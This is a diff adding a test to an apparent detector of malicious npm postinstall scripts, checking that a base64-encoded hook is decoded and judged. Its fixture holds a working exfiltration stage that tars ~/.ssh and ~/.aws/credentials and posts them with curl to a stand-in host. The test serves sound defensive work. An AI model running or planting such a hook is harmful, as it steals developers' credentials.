@@ -427,3 +427,19 @@ def test_a_script_that_writes_credential_files_into_a_file_and_uploads_it():
     npmrc = (b"#!/bin/sh\nN=\"$HOME/.npmrc\"\necho \"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\" > \"$N\"\n"
              b"curl -fsSL -o pkg.tgz https://registry.npmjs.org/x/-/x-1.0.0.tgz\n")
     assert "install-script/sends-secrets" not in {f.rule for f in findings(artifact({"postinstall": "sh ./s.sh"}, {"s.sh": npmrc}))}
+
+
+def test_the_script_an_echoed_base64_carries_is_judged_line_by_line():
+    # Blind set 14's WSL stage: `echo <base64> | base64 -d | sh`, where the decoded script tars ~/.ssh and
+    # ~/.aws into a curl body; the decoded lines are judged as the hook's own.
+    import base64
+
+    stage = "d=/var/tmp/.s; mkdir -p $d\ntar czf - $HOME/.ssh/ $HOME/.aws/credentials | curl -fsS --data-binary @- http://203.0.113.9/u\n"
+    hook = f"echo {base64.b64encode(stage.encode()).decode()} | base64 -d | sh"
+    found = findings(artifact({"postinstall": hook}))
+    sent = next(f for f in found if f.rule == "install-script/sends-secrets")
+    assert "in the base64 it decodes" in sent.message
+    assert "install-script/encoded-command" in {f.rule for f in found}
+    # A decoded stage that only prints a banner is still encoded, but sends nothing.
+    quiet = f"echo {base64.b64encode(b'echo thanks for installing; echo see the docs').decode()} | base64 -d | sh"
+    assert "install-script/sends-secrets" not in {f.rule for f in findings(artifact({"postinstall": quiet}))}
